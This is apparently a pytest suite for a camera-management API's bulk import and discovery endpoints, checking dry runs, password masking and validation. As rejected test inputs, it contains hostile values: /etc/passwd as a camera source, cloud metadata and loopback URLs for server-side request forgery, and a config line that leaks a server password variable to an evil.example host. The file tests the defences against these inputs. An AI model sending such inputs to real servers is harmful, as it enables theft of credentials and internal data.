"""Many cameras by one request."""

from __future__ import annotations

import pytest

from .conftest import MakeSite, Path, Site

pytestmark = pytest.mark.anyio

PATH = "/api/v1/cameras/import"
TABLE = {
    "file_name": "cameras.csv",
    "file_text": "name,source,classes,colour\r\nNew gate,rtsp://eva:hunter2@cam/1,person,red\r\nB,sim://yard?seed=77,,\r\n",
}


async def test_it_is_looked_over_first_and_added_when_asked(site: Site) -> None:
    first = (await site.ask("POST", "ada", PATH, json=TABLE)).json()
    assert (first["dry_run"], first["added_cameras"], first["added_rules"]) == (True, 2, 1)
    assert [(one["id"], one["state"]) for one in first["cameras"]] == [("new-gate", "new"), ("b", "new")]
    assert first["cameras"][0]["address"] == "rtsp://eva:***@cam/1"
    assert [one["field"] for one in first["left_out"]] == ["colour"]
    before = {camera["id"] for camera in (await site.get("ada", "/api/v1/cameras")).json()["cameras"]}
    assert not before & {"new-gate", "b"}
    done = (await site.ask("POST", "ada", f"{PATH}?dry_run=false", json=TABLE)).json()
    assert (done["dry_run"], done["added_cameras"], done["added_rules"]) == (False, 2, 1)
    after = {camera["id"] for camera in (await site.get("ada", "/api/v1/cameras")).json()["cameras"]}
    assert after == before | {"new-gate", "b"}
    again = (await site.ask("POST", "ada", f"{PATH}?dry_run=false", json=TABLE)).json()
    assert (again["added_cameras"], again["added_rules"]) == (0, 0)
    assert {one["state"] for one in [*again["cameras"], *again["rules"]]} == {"same"}
    notes = site.services.audit.newest_of(["camera.import"])
    assert [note.detail for note in notes] == [{"cameras": ["new-gate", "b"], "count": 2, "rules": 1}]


async def test_faults_come_all_at_once_and_add_nothing(site: Site) -> None:
    text = "id,source\na,rtsp://eva:hunter2@a/1\nb,\nc,nosuch://x\n"
    answer = await site.ask("POST", "ada", f"{PATH}?dry_run=false", json={"file_name": "a.csv", "file_text": text})
    assert answer.status_code == 422
    assert answer.json()["detail"] == "the file has 2 problems; nothing was added"
    assert [error["field"] for error in answer.json()["errors"]] == ["line 3", "line 4"]
    assert "hunter2" not in answer.text
    assert (await site.get("ada", "/api/v1/cameras/a")).status_code == 404


async def test_files_of_this_machine_may_not_be_opened_by_an_import(site: Site) -> None:
    text = "source\n/etc/passwd\ndevice:/dev/video0\nrtsp://fine/1\n"
    answer = await site.ask("POST", "ada", f"{PATH}?dry_run=false", json={"file_name": "a.csv", "file_text": text})
    assert answer.status_code == 422
    assert [error["field"] for error in answer.json()["errors"]] == ["line 2", "line 3"]


async def test_an_import_does_not_lead_where_cameras_may_not_be(make_site: MakeSite, filled_database: Path) -> None:
    site = make_site(filled_database, port=8440)
    text = "name,source\nfine,rtsp://192.0.2.1/1\nmeta,http://169.254.169.254/latest/meta-data\nown,http://127.0.0.1:8440/\n"
    async with site.live:
        for query in ("", "?dry_run=false"):
            answer = await site.ask("POST", "ada", PATH + query, json={"file_name": "a.csv", "file_text": text})
            assert answer.status_code == 422, answer.text
            assert [error["field"] for error in answer.json()["errors"]] == ["line 3", "line 4"]
        assert (await site.get("ada", "/api/v1/cameras/fine")).status_code == 404


@pytest.mark.parametrize("host", ["169.254.169.254", "metadata.google.internal", "2852039166"])
async def test_nobody_is_looked_for_where_cameras_may_not_be(
    make_site: MakeSite, filled_database: Path, monkeypatch: pytest.MonkeyPatch, host: str
) -> None:
    asked: list[str] = []
    monkeypatch.setattr("panops.api.camera_discovery.discover", lambda *_, host, **__: asked.append(host) or [])
    site = make_site(filled_database)
    async with site.live:
        answer = await site.ask("POST", "ada", "/api/v1/cameras/discover", json={"host": f" {host} "})
        assert (answer.status_code, answer.json()["errors"][0]["field"], asked) == (422, "host", [])
        assert (await site.ask("POST", "ada", "/api/v1/cameras/discover", json={"host": "192.0.2.7"})).status_code == 200
        assert (await site.ask("POST", "ada", "/api/v1/cameras/discover", json={})).status_code == 200
        assert asked == ["192.0.2.7", ""]
    allowing = make_site(filled_database, allowed_addresses=("169.254.169.254/32",))
    async with allowing.live:
        answer = await allowing.ask("POST", "ada", "/api/v1/cameras/discover", json={"host": host})
        # A name stays refused unless it leads to what is allowed, and none does here.
        assert answer.status_code == (422 if "google" in host else 200)


async def test_the_servers_environment_is_not_for_imports(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FRIGATE_PASSWORD", "hunter2")
    text = "cameras:\n  gate:\n    ffmpeg:\n      inputs:\n        - {path: 'rtsp://{FRIGATE_PASSWORD}.evil.example/', roles: [detect]}\n"
    answer = await site.ask("POST", "ada", f"{PATH}?dry_run=false", json={"file_name": "f.yml", "file_text": text})
    assert answer.status_code == 422
    assert "the variable FRIGATE_PASSWORD is not set here" in answer.json()["errors"][0]["message"]


@pytest.mark.parametrize("body", [{}, {"file_name": "a.csv"}, {"file_name": "", "file_text": "source"}, {**TABLE, "more": 1}])
async def test_a_body_that_is_none(site: Site, body: dict[str, object]) -> None:
    assert (await site.ask("POST", "ada", PATH, json=body)).status_code == 422
